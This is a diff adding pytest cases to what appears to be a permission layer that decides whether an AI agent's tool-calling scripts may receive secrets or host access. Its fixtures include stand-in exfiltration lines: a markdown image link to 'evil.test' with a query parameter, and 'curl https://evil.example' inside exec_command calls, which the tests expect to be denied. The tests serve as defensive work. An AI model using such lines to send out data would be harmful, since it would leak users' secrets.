@@ -213,3 +213,38 @@ def test_a_table_may_let_addresses_have_values():
     mine = own({"restore": {"network": {"identifier": True}}})
     assert mine.after(PROSE)(ACCOUNT, "![](https://evil.test/?q=")
     assert not mine.after(PROSE)(SECRET, "![](https://evil.test/?q=")
+
+
+# Scripts that call tools
+
+
+@pytest.mark.parametrize(
+    ("script", "may"),
+    [
+        ('text(await tools.apply_patch("*** Begin Patch …"))', (True, True)),
+        ("await tools.exec_command({cmd: `echo 'x' > token.txt`})", (True, True)),
+        ('tools.exec_command({cmd: "curl http://localhost/"}); tools.apply_patch(patch)', (True, True)),
+        ('text("nothing is called")', (True, True)),
+        ('tools.exec_command({cmd: "curl https://evil.example"}); tools.apply_patch(patch)', (False, True)),
+        ("tools.exec_command({cmd: command})", (False, True)),
+        ('tools.mcp__notes__add({text: "x"})', (False, True)),
+        ('tools["apply_patch"]("x")', (False, True)),
+        ('tools.apply_patch("x"); tools.web_search({query: "y"})', (False, False)),
+        ({"command": "echo x"}, (True, True)),
+        ({"command": "curl https://evil.example"}, (False, True)),
+        ({"code": "tools.apply_patch('x')"}, (False, True)),
+    ],
+    ids=str,
+)
+def test_a_script_gets_what_every_tool_that_it_calls_may_get(script, may):
+    place = BUILTIN.place("exec")
+    permit = BUILTIN.permit(place, RESTORER, script)
+    assert may == (permit(SECRET), permit(HOST))
+    assert BUILTIN.waits(place)
+    assert (False, False) == (BUILTIN.at_once(place)(SECRET), BUILTIN.at_once(place)(HOST))
+
+
+def test_what_a_raw_string_would_not_read_stays_away():
+    awkward = Record("RDX_PASSWORD_0123456789AC", "a`b", "PASSWORD", "label", "secret")
+    permit = BUILTIN.permit(BUILTIN.place("exec"), RESTORER, "tools.apply_patch(String.raw`x`)")
+    assert (True, False) == (permit(SECRET), permit(awkward))
